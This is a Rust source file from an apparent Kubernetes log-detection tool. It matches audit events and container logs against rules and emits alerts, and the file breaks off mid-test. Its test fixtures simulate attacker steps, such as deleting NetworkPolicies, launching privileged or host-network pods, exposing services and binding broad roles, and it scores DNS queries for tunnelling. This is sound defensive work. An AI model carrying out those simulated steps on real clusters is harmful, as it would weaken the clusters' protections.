//! Logs through the rules: each audit event or container log line is
//! matched against the built-in rules (`rules/builtin.yaml`) and the
//! user's, and each firing becomes an alert of the one alert schema, with
//! the actor and the object for audit events and the pod for container
//! logs.

use std::io::BufRead;
use std::sync::Arc;

use palisade_detect::{Actor, Alert, AlertEndpoint, AlertObject, Evidence};
use palisade_flow::{Format, RecordRef};
use palisade_inventory::severity::Severity;
use regex::Regex;
use serde_json::{Value, json};

use crate::access::{EnvoyAccess, failed_destination, parse_coredns, parse_envoy};
use crate::audit::{AuditEvent, AuditStats, read_audit_log_gated};
use crate::container::{LogLine, LogSource, LogStats, read_container_log_gated};
use crate::judge::{isolated_backends, policy_allows};
use crate::prefilter::LineFilter;
use crate::rules::{Firing, InText, RuleSet, key_pattern};
use crate::timeline::{Step, Timeline};
use palisade_policy::MapFilter;

/// The rules Palisade ships.
pub const BUILTIN_RULES: &str = include_str!("../rules/builtin.yaml");

pub struct Scanner {
    rules: RuleSet,
    /// What a container log line must pass for any rule to fire on it.
    container_gate: Option<MessageGate>,
    /// What an audit log line must pass for any rule to fire on it.
    audit_gate: Option<LineGate>,
    /// With a seed: every change replayed, and AUDIT-013 fired on those
    /// that widen connectivity.
    timeline: Option<Timeline>,
}

/// The rule the timeline fires; it is judged by the engine, not matched
/// on fields, so it lives here rather than in `rules/builtin.yaml`.
pub const WIDENING_RULE: (&str, &str) = ("AUDIT-013", "Change widens connectivity");

impl Scanner {
    /// The built-in rules, then `files` (name, text) in order.
    pub fn new(files: &[(&str, &str)]) -> Result<Scanner, String> {
        let mut all = vec![("built-in rules", BUILTIN_RULES)];
        all.extend_from_slice(files);
        let rules = RuleSet::load(&all)?;
        Ok(Scanner {
            container_gate: MessageGate::new(&rules, "container_log")?,
            audit_gate: LineGate::new(&rules, "k8s_audit")?,
            rules,
            timeline: None,
        })
    }

    /// Every line parsed and tried, with no gate: what the gates must
    /// agree with (tests and fuzzing compare the two).
    pub fn ungated(mut self) -> Scanner {
        self.container_gate = None;
        self.audit_gate = None;
        self
    }

    /// The audit-log gate, when the rules allow one.
    pub fn audit_gate(&self) -> Option<&LineGate> {
        self.audit_gate.as_ref()
    }

    /// The container-log gate, when the rules allow one.
    pub fn container_gate(&self) -> Option<&MessageGate> {
        self.container_gate.as_ref()
    }

    /// Judge changes from this snapshot on: a change that makes any
    /// connection possible fires AUDIT-013.
    pub fn with_seed(mut self, timeline: Timeline) -> Scanner {
        self.timeline = Some(timeline);
        self
    }

    pub fn timeline(&self) -> Option<&Timeline> {
        self.timeline.as_ref()
    }

    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    pub fn audit<R: BufRead>(
        &mut self,
        input: R,
        file: &Arc<str>,
        sink: &mut dyn FnMut(Alert),
    ) -> AuditStats {
        // The timeline must see every change, so with a seed every line is
        // read.
        let gate = self.audit_gate.as_ref().filter(|_| self.timeline.is_none());
        let admit = |line: &[u8]| gate.is_none_or(|g| g.admits(line));
        let rules = &mut self.rules;
        let timeline = &mut self.timeline;
        read_audit_log_gated(input, &admit, &mut |event| {
            let micros = event
                .stage_timestamp
                .as_deref()
                .or(event.request_received.as_deref())
                .and_then(|t| palisade_flow::generic::parse_rfc3339(t).ok())
                .unwrap_or(0);
            let judged = timeline.as_ref().and_then(|t| judged_service(t, &event));
            for firing in rules.evaluate("k8s_audit", judged.as_ref().unwrap_or(&event.raw), micros)
            {
                sink(audit_alert(&firing, &event, file));
            }
            let step = timeline
                .as_mut()
                .and_then(|t| t.apply(&event, &MapFilter::default()));
            if let Some(firing) = step.as_ref().and_then(widening) {
                sink(audit_alert(&firing, &event, file));
            }
        })
    }

    pub fn container<R: BufRead>(
        &mut self,
        input: R,
        file: &Arc<str>,
        source: Option<&LogSource>,
        sink: &mut dyn FnMut(Alert),
    ) -> LogStats {
        let (gate, rules) = (&self.container_gate, &mut self.rules);
        let timeline = self.timeline.as_ref();
        let admit = |message: &str| gate.as_ref().is_none_or(|g| g.admits(message));
        let prefilter = gate.as_ref().and_then(MessageGate::prefilter);
        read_container_log_gated(input, source, &admit, prefilter, &mut |line| {
            let record = container_record(&line, timeline);
            let micros = line
                .time
                .as_deref()
                .and_then(|t| palisade_flow::generic::parse_rfc3339(t).ok())
                .unwrap_or(0);
            for firing in rules.evaluate("container_log", &record, micros) {
                sink(container_alert(&firing, &line, file));
            }
        })
    }
}

/// A test on a log line's raw message that every line some rule could
/// fire on passes, so that the others need no record built and no rule
/// tried: at hundreds of megabytes a second, building a record per line is
/// the cost. Conditions on the message itself are one alternation; those
/// on a field of an Envoy or CoreDNS line are tried on the message, and
/// then the line must be one.
pub struct MessageGate {
    message: Option<Regex>,
    envoy: Option<Regex>,
    dns: Option<Regex>,
    /// Finds, in a block of lines, those whose message the gate may admit.
    lines: Option<LineFilter>,
}

impl MessageGate {
    fn new(rules: &RuleSet, source: &str) -> Result<Option<MessageGate>, String> {
        let in_message = |path: &[String]| match path {
            [field] if field == "message" => Some(InText::Whole),
            [reader, _] if reader == "envoy" || reader == "dns" => Some(InText::Piece),
            _ => None,
        };
        let Some(conditions) = rules.text_conditions(source, &in_message) else {
            return Ok(None);
        };
        let alternation = |field: &str| -> Result<Option<Regex>, String> {
            let patterns: Vec<String> = conditions
                .iter()
                .filter(|(f, _)| f == field)
                .map(|(_, p)| format!("(?:{p})"))
                .collect();
            match patterns.is_empty() {
                true => Ok(None),
                false => Regex::new(&patterns.join("|"))
                    .map(Some)
                    .map_err(|e| format!("message gate: {e}")),
            }
        };
        // A field of an Envoy or CoreDNS line lies after the `[` its
        // message starts with or its level has: the block search looks for
        // the pattern only there, or every long line would pass.
        let patterns: Vec<String> = conditions
            .iter()
            .map(|(field, p)| match field.as_str() {
                "message" => p.clone(),
                _ => format!(r"\[[^\n]*(?:{p})"),
            })
            .collect();
        Ok(Some(MessageGate {
            message: alternation("message")?,
            envoy: alternation("envoy")?,
            dns: alternation("dns")?,
            lines: LineFilter::new(&patterns),
        }))
    }

    /// What finds the lines whose message the gate may admit.
    pub fn prefilter(&self) -> Option<&LineFilter> {
        self.lines.as_ref()
    }

    pub fn admits(&self, message: &str) -> bool {
        let matches = |r: &Option<Regex>| r.as_ref().is_some_and(|r| r.is_match(message));
        // Cheap necessary tests of the formats first: an Envoy line starts
        // with its `[time]`, a CoreDNS line has its `[LEVEL]`.
        matches(&self.message)
            || (message.starts_with('[') && matches(&self.envoy) && parse_envoy(message).is_some())
            || (message.contains('[')
                && matches(&self.dns)
                && parse_coredns(dns_part(message)).is_some())
    }
}

/// The audit log's counterpart of [`MessageGate`], on a raw JSON line:
/// every field of an event stands in its line verbatim, except what JSON
/// escapes. A `\\u` escape can hide any character, so such lines always
/// pass; the short escapes (`\\"`, `\\\\`, `\\/`, `\\n`, ...) only matter when a
/// condition could match one of the characters they stand for (real logs
/// escape quotes in every RBAC annotation). Lines that wrap their event in
/// another shape (GKE's `protoPayload`, whose fields are renamed and
/// recoded) always pass too.
pub struct LineGate {
    /// Per rule, its most telling pattern: one pass finds the rules a line
    /// may concern.
    first: regex::bytes::RegexSet,
    /// Per rule, its other patterns, tried only then.
    rest: Vec<Vec<regex::bytes::Regex>>,
    short_escapes_matter: bool,
}

/// Keys every audit event has: they tell nothing about a line.
const COMMON_KEYS: [&str; 20] = [
    "kind",
    "apiVersion",
    "level",
    "auditID",
    "stage",
    "requestURI",
    "verb",
    "user",
    "username",
    "groups",
    "sourceIPs",
    "userAgent",
    "objectRef",
    "resource",
    "namespace",
    "name",
    "apiGroup",
    "responseStatus",
    "code",
    "annotations",
];

/// How much a pattern narrows the lines (a heuristic: only speed depends
/// on it): a rare key most, then longer values.
fn telling((pattern, key): &(String, bool)) -> usize {
    let common = COMMON_KEYS.iter().any(|k| *pattern == key_pattern(k));
    match (key, common) {
        (true, true) => 0,
        (true, false) => usize::MAX,
        (false, _) => pattern.len(),
    }
}

impl LineGate {
    fn new(rules: &RuleSet, source: &str) -> Result<Option<LineGate>, String> {
        let Some(conditions) = rules.json_conditions(source) else {
            return Ok(None);
        };
        if conditions.is_empty() {
            return Ok(None);
        }
        let error = |e: regex::Error| format!("audit line gate: {e}");
        let mut first = Vec::new();
        let mut rest = Vec::new();
        for mut all in conditions.iter().cloned() {
            let best = (0..all.len())
                .max_by_key(|&i| telling(&all[i]))
                .unwrap_or(0);
            first.push(all.swap_remove(best).0);
            let others: Result<Vec<_>, _> = all
                .iter()
                .map(|(p, _)| regex::bytes::Regex::new(p))
                .collect();
            rest.push(others.map_err(error)?);
        }
        // Keys are plain names; their quotes are JSON's.
        let short_escapes_matter = conditions
            .iter()
            .flatten()
            .any(|(p, key)| !key && !plain_literals(p));
        Ok(Some(LineGate {
            first: regex::bytes::RegexSet::new(&first).map_err(error)?,
            rest,
            short_escapes_matter,
        }))
    }

    pub fn admits(&self, line: &[u8]) -> bool {
        let escaped = memchr::memchr_iter(b'\\', line)
            .any(|at| self.short_escapes_matter || line.get(at + 1) == Some(&b'u'));
        // Built once: `memmem::find` would build its searcher per line.
        static WRAPPED: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
            std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"protoPayload"));
        if escaped || WRAPPED.find(line).is_some() {
            return true;
        }
        self.first
            .matches(line)
            .iter()
            .any(|rule| self.rest[rule].iter().all(|r| r.is_match(line)))
    }
}

/// Whether a pattern matches exactly a finite set of literals none of
/// which holds a character JSON writes as a short escape.
fn plain_literals(pattern: &str) -> bool {
    use regex_syntax::hir::literal::Extractor;
    let Ok(hir) = regex_syntax::parse(pattern) else {
        return false;
    };
    let literals = Extractor::new().extract(&hir);
    let escaped = |b: &u8| matches!(b, b'"' | b'\\' | b'/' | 0x00..=0x1f);
    literals.is_exact()
        && literals
            .literals()
            .is_some_and(|all| all.iter().all(|l| !l.as_bytes().iter().any(escaped)))
}

/// Where a CoreDNS line starts in a message: at its level, `[INFO]`.
fn dns_part(message: &str) -> &str {
    message.trim_start_matches(|c: char| c != '[')
}

/// AUDIT-013 for a step that gained connections: how many pairs, and the
/// first of them.
fn widening(step: &Step) -> Option<Firing> {
    let gained: Vec<_> = step
        .entries
        .iter()
        .filter(|e| !e.gained().is_empty())
        .collect();
    let first = gained.first()?;
    let object = match step.namespace.as_str() {
        "" => format!("{} {}", step.kind, step.name),
        ns => format!("{} {ns}/{}", step.kind, step.name),
    };
    let more = match gained.len() {
        1 => String::new(),
        n => format!(" and {} more pairs", n - 1),
    };
    Some(Firing {
        rule_id: WIDENING_RULE.0.into(),
        name: WIDENING_RULE.1.into(),
        priority: "high".into(),
        output: format!(
            "{} {} {object}, which lets {} reach {} on {}{more}",
            step.user,
            step.verb,
            first.src,
            first.dst,
            first.gained()
        ),
    })
}

/// A Service event with what the seed says of its backends
/// (`palisade.isolated_backends`), or `None` for other events and when
/// the seed cannot say.
fn judged_service(timeline: &Timeline, event: &AuditEvent) -> Option<Value> {
    let object = event.object_ref.as_ref()?;
    let writes = matches!(event.verb.as_str(), "create" | "update" | "patch");
    if object.resource != "services" || object.subresource.is_some() || !writes {
        return None;
    }
    let namespace = object.namespace.as_deref()?;
    // The stored object when logged, else the request (a patch body may
    // lack the selector, and then there is nothing to judge).
    let service = ["responseObject", "requestObject"]
        .iter()
        .filter_map(|key| event.raw.get(key))
        .find(|o| o.pointer("/spec/selector").is_some())?;
    let isolated = isolated_backends(
        timeline.inventory(),
        timeline.settings(),
        namespace,
        service,
    )?;
    let mut judged = event.raw.clone();
    judged["palisade"] = json!({"isolated_backends": isolated});
    Some(judged)
}

/// What rules see of a container log line: its text, its source, what it
/// says when it is an Envoy access line or a CoreDNS query, and where a
/// connection it tells of was going. With a seed, an Envoy line with
/// response flags from a pod's sidecar (not to its own app) is judged by
/// the policy: `palisade.policy_allows`.
fn container_record(line: &LogLine, seed: Option<&Timeline>) -> Value {
    let mut record = json!({
        "message": line.message,
        "stream": format!("{:?}", line.stream).to_ascii_lowercase(),
        "time": line.time,
    });
    if let Some(source) = &line.source {
        record["source"] = json!({
            "namespace": source.namespace,
            "pod": source.pod,
            "pod_uid": source.pod_uid,
            "container": source.container,
        });
    }
    if let Some(envoy) = parse_envoy(&line.message) {
        record["envoy"] = json!({
            "method": envoy.method, "path": envoy.path, "status": envoy.status,
            "flags": envoy.flags, "details": envoy.details,
            "upstream_host": envoy.upstream_host, "upstream_cluster": envoy.upstream_cluster,
            "user_agent": envoy.user_agent,
        });
        if let Some(allows) = seed.and_then(|t| judged_envoy(t, &envoy, line.source.as_ref())) {
            record["palisade"] = json!({ "policy_allows": allows });
        }
    } else if let Some(dns) = parse_coredns(dns_part(&line.message)) {
        let run = dns.longest_run();
        record["dns"] = json!({
            "client": dns.client, "type": dns.qtype, "name": dns.name, "rcode": dns.rcode,
            "run": {
                "length": run.length, "entropy": run.entropy,
                "digits": run.digits, "letters": run.letters,
            },
        });
    } else if let Some(destination) = failed_destination(&line.message) {
        // Envoy and CoreDNS lines name their addresses in their fields.
        record["conn"] = json!({ "destination": destination });
    }
    record
}

/// Whether the policy allows the connection an Envoy line with response
/// flags says its pod's sidecar tried; lines to the pod's own app
/// (`inbound|` clusters) are not the policy's business.
fn judged_envoy(seed: &Timeline, envoy: &EnvoyAccess, source: Option<&LogSource>) -> Option<bool> {
    let inbound = envoy
        .upstream_cluster
        .as_deref()
        .is_some_and(|c| c.starts_with("inbound|"));
    if inbound || envoy.flags.is_empty() {
        return None;
    }
    let upstream = envoy.upstream_host.as_deref()?;
    policy_allows(seed.inventory(), seed.settings(), source?, upstream)
}

/// Falco's priorities and the common words, as severities.
pub fn severity(priority: &str) -> Severity {
    match priority.to_ascii_lowercase().as_str() {
        "emergency" | "alert" | "critical" => Severity::Critical,
        "error" | "high" => Severity::High,
        "warning" | "medium" => Severity::Medium,
        "notice" | "low" => Severity::Low,
        _ => Severity::Info,
    }
}

fn alert(firing: &Firing, time: Option<String>, record: RecordRef) -> Alert {
    Alert {
        time: time.clone(),
        rule: firing.rule_id.clone().into(),
        name: firing.name.clone().into(),
        severity: severity(&firing.priority),
        summary: firing.output.clone(),
        src: AlertEndpoint::default(),
        dst: AlertEndpoint::default(),
        protocol: String::new(),
        port: None,
        connections: 1,
        first_seen: time.clone(),
        last_seen: time,
        process: None,
        actor: None,
        object: None,
        evidence: Evidence {
            snapshot: None,
            flow: None,
            records: vec![record],
            decision: None,
            figures: Default::default(),
        },
    }
}

fn audit_alert(firing: &Firing, event: &AuditEvent, file: &Arc<str>) -> Alert {
    let time = event
        .stage_timestamp
        .clone()
        .or(event.request_received.clone());
    let record = RecordRef {
        file: file.clone(),
        format: Format::AuditLog,
        record: event.line,
    };
    let mut alert = alert(firing, time, record);
    alert.actor = Some(Actor {
        user: event.user.username.clone(),
        groups: event.user.groups.clone(),
        source_ip: event.source_ip().map(str::to_string),
        user_agent: event.user_agent.clone(),
    });
    alert.src = AlertEndpoint {
        kind: "user",
        ip: event.source_ip().and_then(|ip| ip.parse().ok()),
        ..AlertEndpoint::default()
    };
    if let Some(object) = &event.object_ref {
        let kind = match &object.subresource {
            Some(sub) => format!("{}/{sub}", object.resource),
            None => object.resource.clone(),
        };
        alert.object = Some(AlertObject {
            kind,
            namespace: object.namespace.clone(),
            name: object.name.clone(),
        });
        alert.dst = AlertEndpoint {
            kind: "object",
            namespace: object.namespace.clone(),
            ..AlertEndpoint::default()
        };
    }
    alert
}

fn container_alert(firing: &Firing, line: &LogLine, file: &Arc<str>) -> Alert {
    let record = RecordRef {
        file: file.clone(),
        format: Format::ContainerLog,
        record: line.line,
    };
    let mut alert = alert(firing, line.time.clone(), record);
    if let Some(source) = &line.source {
        alert.src = AlertEndpoint {
            kind: "pod",
            namespace: Some(source.namespace.clone()),
            pod: Some(source.pod.clone()),
            ..AlertEndpoint::default()
        };
    }
    alert
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::tests::SNAPSHOT;

    fn audit(line: &str) -> Vec<Alert> {
        let mut scanner = Scanner::new(&[]).unwrap();
        let mut alerts = Vec::new();
        scanner.audit(line.as_bytes(), &Arc::from("audit.log"), &mut |a| {
            alerts.push(a)
        });
        alerts
    }

    const DELETE: &str = r#"{"auditID":"1","stage":"ResponseComplete","verb":"delete","user":{"username":"mallory","groups":["dev"]},"sourceIPs":["10.0.0.5"],"userAgent":"kubectl/v1.30","objectRef":{"resource":"networkpolicies","namespace":"shop","name":"db","apiGroup":"networking.k8s.io"},"responseStatus":{"code":200},"stageTimestamp":"2026-11-30T10:00:00Z"}"#;

    /// The audit gate leaves reads unparsed, never the events rules fire
    /// on (every rule's test above runs through it too), and lets through
    /// lines it cannot read verbatim.
    #[test]
    fn the_audit_gate_skips_reads_and_passes_what_it_cannot_judge() {
        let scanner = Scanner::new(&[]).unwrap();
        let gate = scanner.audit_gate().expect("the built-in rules have one");
        let get = r#"{"auditID":"2","stage":"ResponseComplete","verb":"get","user":{"username":"alice"},"objectRef":{"resource":"configmaps","namespace":"shop"},"responseStatus":{"code":200}}"#;
        assert!(gate.admits(DELETE.as_bytes()));
        assert!(!gate.admits(get.as_bytes()));
        assert!(gate.admits(get.replace("alice", "al\\u0069ce").as_bytes()));
        // A quote escaped in an annotation hides nothing the rules look for.
        let annotated = get.replace("}}", r#"},"annotations":{"reason":"RBAC: \"x\""}}"#);
        assert!(!gate.admits(annotated.as_bytes()));
        assert!(gate.admits(br#"{"protoPayload":{"methodName":"x"}}"#));
        // AKS wraps the event as a JSON string: its keys end in `\"`.
        let wrapped = serde_json::to_string(&serde_json::Value::from(DELETE)).unwrap();
        let aks = format!(r#"{{"category":"kube-audit","properties":{{"log":{wrapped}}}}}"#);
        assert!(gate.admits(aks.as_bytes()), "{aks}");
        assert_eq!(audit(&aks).len(), 1);
        let mut scanner = Scanner::new(&[]).unwrap();
        let text = format!("{get}\n{DELETE}\n{{broken\n");
        let stats = scanner.audit(text.as_bytes(), &Arc::from("a.log"), &mut |_| {});
        assert_eq!((stats.gated, stats.events), (1, 1));
        assert_eq!(
            stats.skipped.get("not JSON"),
            Some(&1),
            "bad lines are still reported"
        );
    }

    #[test]
    fn a_deleted_policy_is_an_alert_with_its_actor_and_object() {
        let alerts = audit(DELETE);
        assert_eq!(alerts.len(), 1);
        let a = &alerts[0];
        assert_eq!(a.rule, "AUDIT-001");
        assert_eq!(a.severity, Severity::High);
        assert_eq!(a.summary, "mallory deleted networkpolicies shop/db");
        let actor = a.actor.as_ref().unwrap();
        assert_eq!(
            (actor.user.as_str(), actor.source_ip.as_deref()),
            ("mallory", Some("10.0.0.5"))
        );
        assert_eq!(a.object.as_ref().unwrap().name.as_deref(), Some("db"));
        assert_eq!(a.evidence.records[0].record, 1);
        // Refused: nothing happened.
        assert!(audit(&DELETE.replace("\"code\":200", "\"code\":403")).is_empty());
    }

    /// An audit event: `fields` (a JSON object) laid over a successful
    /// create of pod a/p by user u; `n` numbers its auditID and second.
    fn event(n: usize, fields: Value) -> String {
        let mut base = json!({
            "auditID": format!("id-{n}"), "stage": "ResponseComplete", "level": "RequestResponse",
            "verb": "create", "user": {"username": "u"}, "sourceIPs": ["10.0.0.5"],
            "objectRef": {"resource": "pods", "namespace": "a", "name": "p"},
            "responseStatus": {"code": 201},
            "stageTimestamp": format!("2026-11-30T10:00:{:02}Z", n % 60),
        });
        if let (Value::Object(base), Value::Object(fields)) = (&mut base, fields) {
            base.extend(fields);
        }
        base.to_string()
    }

    fn pod_spec(spec: Value) -> String {
        event(0, json!({"requestObject": {"spec": spec}}))
    }

    fn refused(times: usize) -> String {
        (0..times)
            .map(|n| event(n, json!({"verb": "list", "responseStatus": {"code": 403}})))
            .collect::<Vec<_>>()
            .join("\n")
    }

    /// Each built-in rule of `source` is among the ids the cases test.
    fn every_rule_has_a_case<'c>(source: &str, ids: impl Iterator<Item = &'c str>) {
        let tested: Vec<&str> = ids.collect();
        let scanner = Scanner::new(&[]).unwrap();
        for rule in scanner.rules().rules() {
            if rule.source.as_deref() == Some(source) {
                assert!(
                    tested.contains(&rule.id.as_str()),
                    "{} has no case",
                    rule.id
                );
            }
        }
    }

    /// Every built-in audit rule, with an event that fires it and a close
    /// one that does not (docs/logs.md, "Built-in rules").
    #[test]
    fn every_built_in_audit_rule_fires_on_its_event_and_not_on_its_neighbour() {
        let netpol = |verb: &str, level: &str| {
            event(
                0,
                json!({"verb": verb, "level": level,
                "objectRef": {"resource": "networkpolicies", "namespace": "shop", "name": "db", "apiGroup": "networking.k8s.io"},
                "responseStatus": {"code": 200}}),
            )
        };
        let subresource = |sub: &str, verb: &str| {
            event(
                0,
                json!({"verb": verb, "objectRef": {"resource": "pods", "subresource": sub, "namespace": "a", "name": "p"}, "responseStatus": {"code": 101}}),
            )
        };
        let service = |spec: Value| {
            event(
                0,
                json!({"objectRef": {"resource": "services", "namespace": "a", "name": "s"}, "requestObject": {"spec": spec}}),
            )
        };
        let role_on = |resource: &str, verbs: Value| {
            event(
                0,
                json!({"objectRef": {"resource": "roles", "namespace": "a", "name": "r"},
                "requestObject": {"rules": [{"apiGroups": ["networking.k8s.io", ""], "resources": [resource], "verbs": verbs}]}}),
            )
        };
        let role = |verbs: Value| role_on("networkpolicies", verbs);
        let binding = |role: &str| {
            event(
                0,
                json!({"verb": "create", "objectRef": {"resource": "rolebindings", "namespace": "a", "name": "b"},
                "requestObject": {"roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [{"kind": "User", "name": "mallory"}]},
                "responseStatus": {"code": 201}}),
            )
        };
        let plain = pod_spec(json!({"containers": [{"image": "nginx"}]}));
        let cases = [
            (
                "AUDIT-001",
                DELETE.to_string(),
                DELETE.replace("\"code\":200", "\"code\":403"),
            ),
            (
                "AUDIT-002",
                netpol("patch", "RequestResponse"),
                netpol("get", "RequestResponse"),
            ),
            ("AUDIT-003", subresource("exec", "create"), plain.clone()),
            (
                "AUDIT-004",
                subresource("ephemeralcontainers", "patch"),
                subresource("ephemeralcontainers", "get"),
            ),
            (
                "AUDIT-005",
                pod_spec(json!({"hostNetwork": true})),
                pod_spec(json!({"hostNetwork": false})),
            ),
            (
                "AUDIT-006",
                pod_spec(json!({"containers": [{"securityContext": {"privileged": true}}]})),
                pod_spec(json!({"containers": [{"securityContext": {"privileged": false}}]})),
            ),
            (
                "AUDIT-007",
                pod_spec(
                    json!({"containers": [{"securityContext": {"capabilities": {"add": ["NET_RAW"]}}}]}),
                ),
                pod_spec(
                    json!({"containers": [{"securityContext": {"capabilities": {"add": ["CHOWN"]}}}]}),
                ),
            ),
            (
                "AUDIT-008",
                pod_spec(
                    json!({"containers": [{"ports": [{"containerPort": 80, "hostPort": 8080}]}]}),
                ),
                pod_spec(json!({"containers": [{"ports": [{"containerPort": 80}]}]})),
            ),
            (
                "AUDIT-009",
                service(json!({"externalIPs": ["192.0.2.1"]})),
                service(json!({"type": "ClusterIP"})),
            ),
            (
                "AUDIT-010",
                service(json!({"type": "NodePort"})),
                service(json!({"type": "ClusterIP"})),
            ),
            (
                "AUDIT-011",
                role(json!(["create", "patch"])),
                role(json!(["get", "list"])),
            ),
            (
                "AUDIT-011",
                role_on("pods", json!(["create"])),
                role_on("configmaps", json!(["create"])),
            ),
            (
                "AUDIT-011",
                role_on("namespaces", json!(["patch"])),
                role_on("namespaces", json!(["get"])),
            ),
            ("AUDIT-014", binding("edit"), binding("view")),
            (
                "AUDIT-012",
                netpol("patch", "Metadata"),
                netpol("patch", "RequestResponse"),
            ),
            ("AUDIT-020", refused(20), refused(19)),
            ("AUDIT-021", refused(20), refused(19)),
        ];
        every_rule_has_a_case("k8s_audit", cases.iter().map(|c| c.0));
        for (rule, fires, quiet) in cases {
            let fired = |lines: &str| audit(lines).iter().any(|a| a.rule == rule);
            assert!(fired(&fires), "{rule} should fire on {fires}");
            assert!(!fired(&quiet), "{rule} should not fire on {quiet}");
        }
        assert!(audit(&plain).is_empty(), "a plain pod");
    }

    fn web_1() -> LogSource {
        LogSource {
            namespace: "shop".into(),
            pod: "web-1".into(),
            pod_uid: None,
            container: "app".into(),
        }
    }

    /// The rules that fire on `messages`, logged by shop/web-1 one second
    /// apart in the CRI format.
    fn container_rules(messages: &[String]) -> Vec<String> {
        let mut scanner = Scanner::new(&[]).unwrap();
        let source = web_1();
        let text: String = messages
            .iter()
            .enumerate()
            .map(|(i, m)| format!("2026-11-30T10:00:{:02}Z stdout F {m}\n", i % 60))
            .collect();
        container_rules_fired(&mut scanner, &text, &source)
    }

    /// The rules that fire on a container log `text` logged by `source`.
    fn container_rules_fired(scanner: &mut Scanner, text: &str, source: &LogSource) -> Vec<String> {
        let mut rules = Vec::new();
        scanner.container(
            text.as_bytes(),
            &Arc::from("0.log"),
            Some(source),
            &mut |a| rules.push(a.rule.to_string()),
        );
        rules
    }

    fn seeded() -> Scanner {
        let (timeline, diagnostics) =
            Timeline::seed(&[("seed.yaml".into(), SNAPSHOT.into())], Default::default());
        assert!(diagnostics.is_empty(), "{diagnostics:?}");
        Scanner::new(&[]).unwrap().with_seed(timeline)
    }

    /// With a seed, exposing a Service fires only when a policy protects
    /// one of its backends, and an Envoy connect failure only when the
    /// policy allows the connection; without one both fire as written.
    #[test]
    fn a_seed_judges_exposed_services_and_envoy_failures_by_the_policy() {
        let service = |app: &str, spec: Value| {
            let mut spec = spec;
            spec["selector"] = json!({"app": app});
            event(
                0,
                json!({"objectRef": {"resource": "services", "namespace": "shop", "name": app},
                "requestObject": {"spec": spec}, "responseObject": {"spec": spec}}),
            )
        };
        let seeded_rules = |line: &str| -> Vec<String> {
            let mut alerts = Vec::new();
            seeded().audit(line.as_bytes(), &Arc::from("audit.log"), &mut |a| {
                alerts.push(a.rule.to_string())
            });
            alerts
        };
        let unseeded_rules = |line: &str| -> Vec<String> {
            audit(line).iter().map(|a| a.rule.to_string()).collect()
        };
        let fires = |rules: Vec<String>, rule: &str| rules.iter().any(|r| r == rule);
        let node_port = json!({"type": "NodePort"});
        assert!(fires(
            seeded_rules(&service("db", node_port.clone())),
            "AUDIT-010"
        ));
        assert!(!fires(
            seeded_rules(&service("cache", node_port.clone())),
            "AUDIT-010"
        ));
        assert!(fires(
            unseeded_rules(&service("cache", node_port)),
            "AUDIT-010"
        ));
        // externalIPs capture others' traffic whatever the backends (the
        // attacker's own are unprotected): it fires either way.
        let external = json!({"externalIPs": ["192.0.2.1"]});
        assert!(fires(
            seeded_rules(&service("cache", external.clone())),
            "AUDIT-009"
        ));
        let mut summaries = Vec::new();
        seeded().audit(
            service("db", external).as_bytes(),
            &Arc::from("a.log"),
            &mut |a| summaries.push(a.summary),
        );
        assert!(
            summaries
                .iter()
                .any(|s| s.ends_with("(1 backends isolated by a policy)")),
            "{summaries:?}"
        );
        let envoy = |upstream: &str| {
            format!(
                r#"2026-11-30T10:00:00Z stdout F [2026-11-30T10:00:00.000Z] "GET / HTTP/1.1" 503 UF upstream_reset_before_response_started{{connection_failure}} - "-" 0 91 24 - "-" "curl/8" "id" "db:5432" "{upstream}" outbound|5432||db.shop.svc.cluster.local - 10.0.0.2:5432 10.0.0.1:34832 - default
"#
            )
        };
        let logged = |scanner: &mut Scanner, upstream: &str| -> Vec<String> {
            let source = LogSource {
                container: "istio-proxy".into(),
                ..web_1()
            };
            container_rules_fired(scanner, &envoy(upstream), &source)
        };
        assert_eq!(
            logged(&mut seeded(), "10.0.0.2:5432"),
            ["LOG-004"],
            "allowed"
        );
        assert!(logged(&mut seeded(), "10.0.0.2:22").is_empty(), "denied");
        assert_eq!(
            logged(&mut seeded(), "10.0.0.9:80"),
            ["LOG-004"],
            "outside the seed"
        );
        assert_eq!(
            logged(&mut seeded(), "10.96.0.20:5432"),
            ["LOG-004"],
            "a ClusterIP is not judged"
        );
        let mut unseeded = Scanner::new(&[]).unwrap();
        assert_eq!(logged(&mut unseeded, "10.0.0.2:22"), ["LOG-004"]);
        // A sidecar's failure to reach its own app is not the policy's.
        let inbound = envoy("10.0.0.2:22").replace("outbound|5432||db", "inbound|22||db");
        let source = LogSource {
            container: "istio-proxy".into(),
            ..web_1()
        };
        assert_eq!(
            container_rules_fired(&mut seeded(), &inbound, &source),
            ["LOG-004"]
        );
    }

    /// Every built-in container-log rule, with lines that fire it and close
    /// ones that do not (docs/logs.md, "Built-in rules").
    fn container_cases() -> Vec<(&'static str, Vec<String>, Vec<String>)> {
        let times = |n: usize, line: &str| vec![line.to_string(); n];
        let envoy = |status: &str, flags: &str, details: &str| {
            format!(
                r#"[2022-02-09T13:34:21.473Z] "GET / HTTP/1.1" {status} {flags} {details} - "-" 0 91 24 - "-" "curl/7.68.0" "5ab9" "customer:8080" "172.16.0.15:8080" outbound|8080||customer - 172.18.2.58:8080 192.168.205.6:34832 - default"#
            )
        };
        let dns = |n: usize, rcode: &str| -> Vec<String> {
            (0..n)
                .map(|i| format!(r#"[INFO] 10.244.0.11:46853 - {i} "A IN host{i}.example.com. udp 82 false 512" {rcode} qr,rd,ra 192 0.002916556s"#))
                .collect()
        };
        let query = |name: &str| {
            vec![format!(
                r#"[INFO] 10.244.0.11:46853 - 7 "TXT IN {name} udp 82 false 512" NOERROR qr,rd,ra 192 0.0029s"#
            )]
        };
        let refused = "dial tcp 10.0.0.9:5432: connect: connection refused";
        let forbidden = "GET /admin 403 12ms";
        let cases = [
            ("LOG-001", times(20, refused), times(19, refused)),
            (
                "LOG-001",
                times(20, refused),
                [
                    times(10, refused),
                    times(10, &refused.replace("5432", "6379")),
                ]
                .concat(),
            ),
            ("LOG-002", times(20, forbidden), times(19, forbidden)),
            (
                "LOG-003",
                vec![envoy("403", "-", "rbac_access_denied_matched_policy[none]")],
                vec![envoy("200", "-", "via_upstream")],
            ),
            (
                "LOG-004",
                vec![envoy(
                    "503",
                    "UF,URX",
                    "upstream_reset_before_response_started{connection_failure}",
                )],
